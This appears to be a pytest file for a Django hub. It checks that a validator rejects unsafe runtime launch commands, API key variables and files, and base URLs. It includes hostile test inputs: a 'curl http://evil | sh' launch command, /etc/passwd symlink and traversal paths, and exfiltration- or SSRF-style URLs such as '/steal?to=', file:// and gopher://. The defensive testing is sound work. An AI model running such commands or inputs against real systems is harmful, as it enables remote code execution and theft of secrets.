"""The runtime block cannot reach the hub's secrets: launch allow-list, key sources, base_url.

Each rule is a field error naming the field, through the one validator every path uses.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from django.test import override_settings

from models_admin.validation import validate_asset_document
from runtimes.upstream import parse_networks
from tests.catalog.test_validation import LLM, errors_of, with_

EXTERNAL = {"kind": "openai-compatible", "model": "gpt-4o-mini", "base_url": "https://api.openai.com/v1"}


def launched(command: list[str]) -> dict[str, Any]:
    return with_(LLM, "runtime", {"kind": "llama-cpp", "model": "m", "launch": {"command": command}})


def external(**runtime: Any) -> dict[str, Any]:
    return with_(LLM, "runtime", {**EXTERNAL, **runtime})


@pytest.mark.parametrize(
    "command",
    [
        ["/bin/sh", "-c", "curl http://evil | sh"],
        ["sh", "-c", "id"],
        ["bash", "-c", "id"],
        ["/usr/bin/env", "llama-server"],
        ["/tmp/upload/llama-server", "-m", "x"],
    ],
)
def test_a_launch_command_off_the_allow_list_is_a_field_error_naming_it(command: list[str]) -> None:
    messages = errors_of(launched(command))
    assert any(
        m.startswith(f"runtime.launch.command: {command[0]!r} is not an allowed executable") for m in messages
    ), messages


@pytest.mark.parametrize("executable", ["llama-server", "vllm", "text-embeddings-router", "ollama"])
def test_the_runtime_servers_are_allowed_by_default(executable: str) -> None:
    doc = validate_asset_document(launched([executable, "-m", "/models/x.gguf"]))
    assert doc["runtime"]["launch"]["command"][0] == executable


def test_the_setting_decides_what_may_be_launched() -> None:
    with override_settings(HUB_LAUNCH_ALLOWED_EXECUTABLES=["/opt/custom/server"]):
        assert validate_asset_document(launched(["/opt/custom/server", "-m", "x"]))
        messages = errors_of(launched(["llama-server"]))
    assert any("'llama-server' is not an allowed executable" in m for m in messages), messages


@pytest.mark.parametrize("name", ["SECRET_KEY", "DATABASE_URL", "REDIS_URL", "OPENAI_API_KEY", "PATH"])
def test_a_key_variable_without_the_secret_prefix_is_a_field_error(name: str) -> None:
    assert any(
        m.startswith(
            "runtime.api_key_env: must name an environment variable starting with HUB_RUNTIME_SECRET_"
        )
        for m in errors_of(external(api_key_env=name))
    )


def test_a_prefixed_key_variable_is_kept() -> None:
    doc = validate_asset_document(external(api_key_env="HUB_RUNTIME_SECRET_OPENAI_API_KEY"))
    assert doc["runtime"]["api_key_env"] == "HUB_RUNTIME_SECRET_OPENAI_API_KEY"


def test_a_key_file_is_refused_while_no_secrets_directory_is_set() -> None:
    with override_settings(HUB_RUNTIME_SECRETS_DIR=None):
        messages = errors_of(external(api_key_file="/run/secrets/openai"))
    assert any(m.startswith("runtime.api_key_file: key files are disabled") for m in messages), messages


def test_a_key_file_outside_the_secrets_directory_is_a_field_error(tmp_path: Path) -> None:
    secrets = tmp_path / "secrets"
    secrets.mkdir()
    (secrets / "hub-env").symlink_to("/etc/passwd")
    with override_settings(HUB_RUNTIME_SECRETS_DIR=str(secrets)):
        for path in ["/etc/passwd", f"{secrets}/../../etc/passwd", str(secrets / "hub-env")]:
            messages = errors_of(external(api_key_file=path))
            assert any(m.startswith("runtime.api_key_file: must be a file under") for m in messages), messages
        doc = validate_asset_document(external(api_key_file=str(secrets / "openai")))
    assert doc["runtime"]["api_key_file"] == str(secrets / "openai")


@pytest.mark.parametrize(
    "base_url",
    [
        "http://127.0.0.1:9/steal?to=",
        "http://127.0.0.1:9/x#frag",
        "http://user:pw@127.0.0.1:9",
        "file:///etc/passwd",
        "gopher://127.0.0.1:9",
    ],
)
def test_a_base_url_with_a_query_fragment_user_info_or_other_scheme_is_a_field_error(base_url: str) -> None:
    messages = errors_of(external(base_url=base_url))
    assert any(m.startswith("runtime.base_url: ") for m in messages), messages


def test_allowed_networks_confine_base_urls_to_addresses_inside_them() -> None:
    with override_settings(HUB_RUNTIME_ALLOWED_NETWORKS=parse_networks(["127.0.0.0/8"])):
        assert validate_asset_document(external(base_url="http://127.0.0.1:8080/v1"))
        assert any(
            "outside HUB_RUNTIME_ALLOWED_NETWORKS" in m
            for m in errors_of(external(base_url="http://10.1.2.3"))
        )
        assert any(
            "host names are not resolved" in m for m in errors_of(external(base_url="https://api.openai.com"))
        )
